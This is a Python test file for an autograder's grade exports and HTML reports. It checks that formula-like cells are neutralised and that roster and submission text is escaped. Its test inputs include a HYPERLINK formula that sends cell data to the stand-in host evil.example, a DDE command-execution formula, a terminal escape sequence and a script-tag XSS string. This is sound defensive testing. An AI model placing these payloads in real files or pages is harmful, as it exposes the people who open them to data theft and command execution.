"""Exports and reports are safe to open (issue #29, item 4).

Every text cell of the csv, Canvas and Moodle files that a spreadsheet would run as a formula
(it starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return) carries OWASP's leading
``'``; scores stay numbers, negative ones included. The class report and feedback pages escape
what came from a roster or a submission. No gradebook or kernel: the writers get rows directly.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from autograder.outputs import export, lms, spreadsheet
from autograder.outputs.feedback import render
from autograder.outputs.report import AssignmentReport, assignment_page
from autograder.outputs.similarity import Pair, Shared
from autograder.pipeline.unit import TestResult as Result

A = "01-why-tensors"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(A1)", "+1", "-1+2", "\tx", "\rx",
           "\n=1+1", "=cmd|' /C calc'!A0", "-1"]


def _safe_text(text: str) -> bool:
    return not text.startswith(spreadsheet.FORMULA_START)


def _read(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_cell_neutralises_text_and_keeps_numbers():
    for text in HOSTILE:
        assert spreadsheet.cell(text) == "'" + text
    assert spreadsheet.cell("Ada Lovelace") == "Ada Lovelace" and spreadsheet.cell(None) == ""
    assert spreadsheet.cell("'=already") == "'=already"  # starts with ', not a formula
    for number, text in ((14.0, "14"), (2.5, "2.5"), (-1, "-1"), (-1.0, "-1"), (0, "0"),
                         (1e-05, "1e-05"), (1e20, "100000000000000000000"), (-0.25, "-0.25")):
        assert spreadsheet.cell(number) == text and spreadsheet.NUMBER.match(text), number
    assert spreadsheet.cell(True) == "True"  # a bool is not a score
    # Control characters (a roster lms_id "\x1b[31mred" recoloured the terminal that showed the
    # file: red team of #29) are shown as U+FFFD; tab and line breaks are the CSV's business.
    assert spreadsheet.cell("\x1b[31mred\x07\x9b") == "\ufffd[31mred\ufffd\ufffd"
    assert spreadsheet.cell("a\tb\nc") == "a\tb\nc"
    for bad in (float("nan"), float("inf"), -float("inf")):
        with pytest.raises(ValueError):
            spreadsheet.cell(bad)


def _table(n: int = len(HOSTILE)) -> tuple[list[lms.LmsRow], dict[str, float]]:
    people = [lms.Person(student=f"s{i}", name=h, lms_id=h, email=h, section=h)
              for i, h in enumerate(HOSTILE[:n])]
    grades = [{"student": p.student, "assignment": A, "score": s, "max_score": 14.0,
               "status": "graded"} for p, s in zip(people, [14.0, 0.0, 2.5, -1.0])]
    grades.append({"student": people[4].student, "assignment": A, "score": "", "max_score": 14.0,
                   "status": "not graded"})
    return lms.lms_rows(grades, people), {A: 14.0}


@pytest.mark.parametrize("fmt", ["canvas", "moodle"])
def test_lms_files_neutralise_every_text_cell_and_keep_scores_numeric(tmp_path, fmt):
    table, max_scores = _table()
    out = tmp_path / f"{fmt}.csv"
    (lms.write_canvas if fmt == "canvas" else lms.write_moodle)(table, max_scores, out)
    rows = _read(out)
    header = rows[0]
    score_cols = {header.index(A)}
    body = rows[2:] if fmt == "canvas" else rows[1:]
    if fmt == "canvas":
        assert rows[1][0] == "Points Possible" and rows[1][header.index(A)] == "14"
    for row in rows:
        for i, value in enumerate(row):
            if i in score_cols and row in body:
                assert value == "" or spreadsheet.NUMBER.match(value), (i, value)
            else:
                assert _safe_text(value), (fmt, i, value)
    name = header.index("Student" if fmt == "canvas" else "Full name")
    assert [r[name] for r in body] == ["'" + h for h in HOSTILE]
    assert [r[header.index(A)] for r in body][:5] == ["14", "0", "2.5", "-1", ""]


def test_the_csv_export_neutralises_text_and_keeps_scores_numeric(tmp_path, monkeypatch):
    rows = [{"student": h, "assignment": A, "cell": h, "score": s, "max_score": 14.0,
             "status": h} for h, s in zip(HOSTILE, [14.0, 0.0, 2.5, -1.0, "", 3.0, 1.0, 0.0, 7.0])]
    monkeypatch.setattr(export, "grade_rows", lambda workdir, by_cell=False, **_: rows)
    out = tmp_path / "grades.csv"
    export.export(tmp_path, out)
    found = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
    assert [r["student"] for r in found] == ["'" + h for h in HOSTILE]
    for r in found:
        for column, value in r.items():
            if column in ("score", "max_score"):
                assert value == "" or spreadsheet.NUMBER.match(value), (column, value)
            else:
                assert _safe_text(value), (column, value)
    assert [r["score"] for r in found][:5] == ["14", "0", "2.5", "-1", ""]
    assert float(found[0]["max_score"]) == 14


SCRIPT = "<script>alert(1)</script>"


def test_feedback_and_report_escape_roster_and_submission_text():
    tests = [Result(f"ex{SCRIPT}", False, "failed", f"expected {SCRIPT}", "")]
    page = render(f"eve{SCRIPT}", A, A, tests, {})
    assert SCRIPT not in page and "&lt;script&gt;" in page
    rep = AssignmentReport(A, 14.0, [f"s{SCRIPT}"], not_graded=[f"ng{SCRIPT}"],
                           not_submitted=[f"ns{SCRIPT}"], problems=[f"p{SCRIPT}"],
                           tampering=[f"t{SCRIPT}"], phases={f"ph{SCRIPT}": 1.0},
                           pairs=[Pair(f"a{SCRIPT}", f"b\"{SCRIPT}", 70, 0.9,
                                       [Shared("ex", f"x = '{SCRIPT}'", SCRIPT, [(0, 5)], [(0, 3)])])])
    html = assignment_page(rep)
    assert SCRIPT not in html and 'b"' not in html
